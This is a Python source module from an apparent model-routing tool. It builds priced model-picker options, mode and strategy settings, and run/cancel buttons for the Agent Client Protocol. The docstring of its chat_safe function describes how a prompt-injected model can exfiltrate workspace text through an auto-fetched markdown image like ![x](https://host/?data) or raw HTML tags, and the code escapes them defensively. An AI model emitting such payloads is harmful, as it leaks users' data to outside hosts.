"""The priced choice in ACP terms, pure: the session's config options (the model picker, the mode,
the strategy) and the texts a client shows before a run. No I/O, no SDK calls.

The model option (category `model`, as ACP clients place their model picker) lists the routed model
first, as the value `auto` ("route each prompt"), then the alternatives with their estimated cost
for the last request; picking one pins it for the following prompts, picking the first entry goes
back to routing. Money is written in code spans: chat clients that render TeX (Jupyter AI's chat,
JupyterLab's markdown) would typeset `$0.01 … $0.02` as math.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import TYPE_CHECKING, Literal

from acp.schema import PermissionOption, SessionConfigOptionSelect, SessionConfigSelectOption

from modelroute.route.format import money

if TYPE_CHECKING:
    from modelroute.route.model import Candidate, Decision
    from modelroute.strategy.model import StrategyPlan

AUTO = "auto"
MODEL_ID, MODE_ID, STRATEGY_ID = "model", "mode", "strategy"
Mode = Literal["choose", "run"]
MODES: dict[str, tuple[str, str]] = {
    "choose": ("Show the priced choice first",
               "Before each run, show the routed model, its estimated cost and the alternatives; run the one picked."),
    "run": ("Run at once", "Run the routed model (or the one picked in the model option) without asking first."),
}
STRATEGY_NAMES: dict[str, tuple[str, str]] = {
    AUTO: ("Policy's choice", "A cascade when the workspace has a check and one is expected to cost less than the "
                              "routed model alone; else the routed model. A pinned model runs alone."),
    "single": ("One model", "One model makes the change."),
    "cascade": ("Cascade", "The cheapest model first; a stronger one only when the check fails."),
    "best-of-n": ("Best of N", "Several models try on their own copies; a synthesiser picks or merges."),
    "plan": ("Plan, then steps", "A strong model writes a plan; each step is routed and run in turn."),
}
MAX_LISTED = 8  # models in the picker: the routed one and the best alternatives
MAX_OFFERED = 3  # alternatives offered as buttons before a run
CANCEL = "cancel"
RUN_PREFIX = "run:"
STRATEGY_PREFIX = "strategy:"


_AMOUNT = re.compile(r"(?<![`\w])(~?\$\d[\d,]*(?:\.\d+)?)(?![`\w])")
_CODE_SPAN = re.compile(r"(`+)[^`\n]*?\1")
_IMAGE = re.compile(r"!\[")  # inline and reference images alike
_TAG = re.compile(r"<(?=[A-Za-z/!?])")  # raw HTML: <img>, <iframe>, <style>, comments


def usd(amount: float) -> str:
    """An amount as a code span, so no markdown renderer reads it as TeX."""
    return f"`{money(amount)}`"


def chat_safe(text: str) -> str:
    """Markdown for a chat that renders it, made inert outside code (fenced blocks and code spans are
    left as they are):

    - dollar amounts (`~$0.01`, `$2.50`) become code spans, so a chat that renders TeX (Jupyter AI's)
      does not typeset the text between two of them as a formula;
    - images are shown as text: the chat would fetch `![x](https://host/?data)` as soon as it renders
      it, so a prompt-injected model could send workspace text to any host without a click;
    - raw HTML is shown as text (`<img src=...>`, `<iframe>`, `<style>` fetch the same way).
    """
    out: list[str] = []
    fence: str | None = None
    for line in text.split("\n"):
        marker = line.lstrip()[:3]
        if fence is None and marker in ("```", "~~~"):
            fence = marker
        elif fence is not None and marker == fence:
            fence = None
        elif fence is None:
            line = _outside_code_spans(line, _inert)
        out.append(line)
    return "\n".join(out)


def _inert(prose: str) -> str:
    return _TAG.sub("&lt;", _IMAGE.sub("!\\[", _AMOUNT.sub(r"`\1`", prose)))


def _outside_code_spans(line: str, change: Callable[[str], str]) -> str:
    parts: list[str] = []
    last = 0
    for span in _CODE_SPAN.finditer(line):
        parts += [change(line[last:span.start()]), span.group(0)]
        last = span.end()
    return "".join([*parts, change(line[last:])])


@dataclass(frozen=True)
class Choice:
    """A model the user may pick for a request, with what the picker and the buttons say."""

    model: str
    name: str  # "Claude Haiku 4.5 · ~$0.011"
    description: str
    runnable: bool  # eligible for the request and set up (a key, an endpoint)


def choices(decision: Decision, pinned: str | None) -> list[Choice]:
    """The routed model first (or the pinned one, when it differs), then eligible alternatives by score."""
    listed = [c for c in decision.candidates if c.eligible][:MAX_LISTED]
    held = next((c for c in decision.candidates if c.model == pinned), None)
    if held is not None and held not in listed:  # the user's pick stays visible, whatever its rank
        listed.append(held)
    if not listed:
        return []
    first = held or listed[0]
    ordered = [first, *[c for c in listed if c is not first]]
    return [_choice(decision, c, pinned) for c in ordered]


def _choice(decision: Decision, c: Candidate, pinned: str | None) -> Choice:
    tags = []
    if c.model == decision.model:
        tags.append("routed")
    if c.model == pinned:
        tags.append("picked")
    tag = f" ({', '.join(tags)})" if tags else ""
    if not c.eligible:
        needs = f" — cannot take this request: {'; '.join(c.blocked_by)}"
    else:
        needs = "" if c.available else f" — {c.setup_hint or 'provider not configured'}"
    name = f"{c.display_name} · {money(c.cost.usd)}{tag}{needs}"
    description = (f"Estimated {money(c.cost.usd)} (range {money(c.cost.low_usd)} to {money(c.cost.high_usd)}) "
                   f"for the last request ({decision.category.words}); strength {c.quality:.0f}/100.")
    return Choice(c.model, name, description, c.available and c.eligible)


def model_option(decision: Decision | None, pinned: str | None, known: Sequence[tuple[str, str]] = ()) -> \
        SessionConfigOptionSelect:
    """The model picker. Before any request is routed it offers routing and the `known` (id, name)
    models without prices; after one, the routed model first (as `auto`) and the alternatives priced."""
    if decision is None:
        values = [_value(AUTO, "Route each prompt", "modelroute picks the best-fit model for each request and "
                         "shows its estimated cost before running.")]
        values += [_value(mid, name, "Pinned for every prompt; priced once a request is routed.")
                   for mid, name in known]
    else:
        routed = next(c for c in decision.candidates if c.model == decision.model)
        head = _choice(decision, routed, None)
        values = [_value(AUTO, f"{head.name.replace(' (routed)', '')} (routed)",
                         f"Route each prompt. {head.description}")]
        values += [_value(c.model, c.name, c.description) for c in choices(decision, pinned)
                   if c.model != decision.model or c.model == pinned]
    current = pinned if pinned is not None and any(v.value == pinned for v in values) else AUTO
    return SessionConfigOptionSelect(
        id=MODEL_ID, name="Model", category="model", type="select", current_value=current, options=values,
        description="The routed model first, then the alternatives with their estimated cost.",
    )


def mode_option(mode: Mode) -> SessionConfigOptionSelect:
    return SessionConfigOptionSelect(
        id=MODE_ID, name="Before running", category="mode", type="select", current_value=mode,
        options=[_value(key, name, text) for key, (name, text) in MODES.items()],
        description="Whether modelroute shows the priced choice and waits for a pick before each run.",
    )


def strategy_option(built: Sequence[str], current: str) -> SessionConfigOptionSelect | None:
    """How a run is made (`auto`: the policy's choice), once more than one strategy is built (a choice
    of one is no choice)."""
    if len([s for s in built if s != AUTO]) < 2:
        return None
    return SessionConfigOptionSelect(
        id=STRATEGY_ID, name="Strategy", category="model_config", type="select", current_value=current,
        options=[_value(s, *STRATEGY_NAMES.get(s, (s, s))) for s in built],
        description="How a request is run: one model, or several checked and escalated.",
    )


def _value(value: str, name: str, description: str) -> SessionConfigSelectOption:
    return SessionConfigSelectOption(value=value, name=name, description=description)


def route_summary(decision: Decision) -> str:
    """The decision in a few markdown lines: model, cost, category, reasons, alternatives, notes."""
    cost = decision.cost
    lines = [
        f"**modelroute** → **{decision.display_name}** · {usd(cost.usd)} "
        f"(range {usd(cost.low_usd)} to {usd(cost.high_usd)}) · {decision.category.words} "
        f"(confidence {decision.confidence:.0%})",
        "",
        *[f"- {reason.strip()}" for reason in decision.reasons[:3]],
    ]
    alternatives = decision.alternatives()[:MAX_OFFERED]
    if alternatives:
        lines += ["", "Alternatives: " + ", ".join(f"{c.display_name} {usd(c.cost.usd)}" +
                                                  ("" if c.available else f" ({c.setup_hint})")
                                                  for c in alternatives)]
    lines += [f"> {note}" for note in decision.notes]
    return "\n".join(lines) + "\n\n"


def run_buttons(decision: Decision, pinned: str | None, strategy: StrategyPlan | None = None
                ) -> list[PermissionOption]:
    """The buttons shown before a run: the strategy the session asks for (priced, with its models)
    when it is offered for this request, the pinned or routed model alone, a few alternatives, and
    Don't run."""
    offered = [c for c in choices(decision, pinned) if c.runnable][: MAX_OFFERED + (strategy is None)]
    buttons = [PermissionOption(option_id=f"{STRATEGY_PREFIX}{strategy.kind}:{','.join(strategy_models(strategy))}",
                                name=f"Run {strategy.title()}", kind="allow_once")] if strategy is not None else []
    buttons += [PermissionOption(option_id=f"{RUN_PREFIX}{c.model}", name=f"Run with {c.name}", kind="allow_once")
                for c in offered]
    buttons.append(PermissionOption(option_id=CANCEL, name="Don't run", kind="reject_once"))
    return buttons


def picked_model(option_id: str | None) -> str | None:
    """The model a button ran (None: Don't run, no answer, or an id that is not a button of ours)."""
    if option_id is None or not option_id.startswith(RUN_PREFIX):
        return None
    return option_id[len(RUN_PREFIX):] or None


def picked_strategy(option_id: str | None) -> bool:
    """The strategy's button was pressed."""
    return option_id is not None and option_id.startswith(STRATEGY_PREFIX)


def strategy_models(plan: StrategyPlan) -> tuple[str, ...]:
    """The models the run core takes for an offered strategy, so it runs exactly what was priced:
    a plan's planner, else the attempts in their order (best of N's synthesiser is the strongest of
    them, as the core chooses it again)."""
    if plan.kind == "plan" and plan.planner is not None:
        return (plan.planner.name,)
    return tuple(o.name for o in plan.attempts)


__all__ = [
    "AUTO",
    "CANCEL",
    "MODEL_ID",
    "MODES",
    "MODE_ID",
    "STRATEGY_ID",
    "STRATEGY_PREFIX",
    "Choice",
    "Mode",
    "chat_safe",
    "choices",
    "mode_option",
    "model_option",
    "picked_model",
    "picked_strategy",
    "route_summary",
    "run_buttons",
    "strategy_models",
    "strategy_option",
    "usd",
]
